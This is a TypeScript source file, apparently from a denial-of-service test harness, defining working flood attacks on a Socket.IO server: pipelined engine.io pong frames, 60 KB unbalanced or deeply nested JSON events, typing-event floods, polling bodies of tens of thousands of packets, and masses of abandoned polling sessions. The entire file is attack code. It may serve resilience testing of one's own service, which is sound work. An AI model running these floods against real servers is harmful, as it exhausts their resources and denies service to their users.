import { floodFrames, repeated } from "../attacker/flood-frames.ts";
import { HttpAnswers, requestBytes } from "../attacker/http-bytes.ts";
import { keepConnected } from "../attacker/connect.ts";
import type { Target } from "../attacker/target.ts";
import { textFrame } from "../attacker/web-socket-bytes.ts";
import type { Attack } from "./attack.ts";
import { type Share, strangersComingBack } from "./share.ts";

const sockets = 8;
const polling = "/socket.io/?EIO=4&transport=polling";
const webSocket = "/socket.io/?EIO=4&transport=websocket";
/** What stands between two packets of one body. */
const separator = "\x1e";
const bodyBytes = 60_000;
/** As many as an address may have sockets that did not authenticate. */
const sessions: Share = { of: ["200"], atMost: () => 200 };

/** What is done in Socket.IO's dialect. */
export const socketIo: readonly Attack[] = [
  {
    name: "engine-pongs",
    title: "sends engine.io packets of one byte, pipelined",
    shares: [strangersComingBack],
    run: (target) => floodFrames(target, { sockets, path: webSocket, next: repeated([textFrame("3")]) }),
  },
  flood("deep-json", "sends events of 60 KB of [ over Socket.IO", () => `42["send_message",${"[".repeat(bodyBytes)}`),
  flood("deep-events", "sends events of well-formed, deeply nested JSON over Socket.IO", () => {
    const depth = bodyBytes / 2;
    return `42["send_message",${"[".repeat(depth)}${"]".repeat(depth)}]`;
  }),
  flood(
    "socket-io-typing",
    "types and stops typing over Socket.IO, signed in",
    ({ room }) => `42["typing",{"roomId":${room},"isTyping":true}]`,
  ),
  {
    name: "polling-packets",
    title: "posts bodies of 30 000 packets to Socket.IO's polling",
    run: (target) => each(16, () => poll(target, Array.from({ length: bodyBytes / 2 }, () => "3").join(separator))),
  },
  {
    name: "polling-events",
    title: "posts bodies of thousands of events to Socket.IO's polling",
    run: (target) =>
      each(16, () =>
        poll(target, `40${separator}${Array.from({ length: 4_000 }, () => '42["x",{}]').join(separator)}`),
      ),
  },
  {
    name: "polling-handshakes",
    title: "opens sessions of Socket.IO's polling and leaves them",
    shares: [sessions],
    run: (target) => each(32, () => poll(target, undefined)),
  },
];

function flood(name: string, title: string, text: (target: Target) => string): Attack {
  return {
    name,
    title,
    run(target) {
      const hello = [
        textFrame(`40${JSON.stringify({ token: target.me.token })}`),
        textFrame(`42["join_room",{"roomId":${target.room}}]`),
      ];
      floodFrames(target, { sockets, path: webSocket, hello, after: /^40/, next: repeated([textFrame(text(target))]) });
    },
  };
}

function each(count: number, open: () => void): void {
  for (let index = 0; index < count; index += 1) open();
}

/** Opens a session and posts `body` to it until it is refused; then the next. Without a body only sessions are opened. */
function poll(target: Target, body: string | undefined): void {
  const { tally } = target;
  const handshake = requestBytes(target, { method: "GET", path: polling });
  keepConnected(target, (socket) => {
    const answers = new HttpAnswers();
    let post: Buffer | undefined;
    let waiting = false;
    const send = (bytes: Buffer) => {
      waiting = true;
      tally.sent();
      socket.write(bytes);
    };
    socket.on("data", (chunk: Buffer) =>
      answers.push(chunk, ({ status, body: answer, closes }) => {
        waiting = false;
        tally.got(String(status));
        const sid = /"sid":"([^"]+)"/.exec(answer.toString("latin1"))?.[1];
        if (sid !== undefined && body !== undefined) {
          post = requestBytes(target, { method: "POST", path: `${polling}&sid=${sid}`, body, headers: {} });
        } else if (status !== 200) {
          post = undefined;
        }
        if (closes) socket.destroy();
        else send(post ?? handshake);
      }),
    );
    send(handshake);
    return () => (waiting ? "cut" : undefined);
  });
}
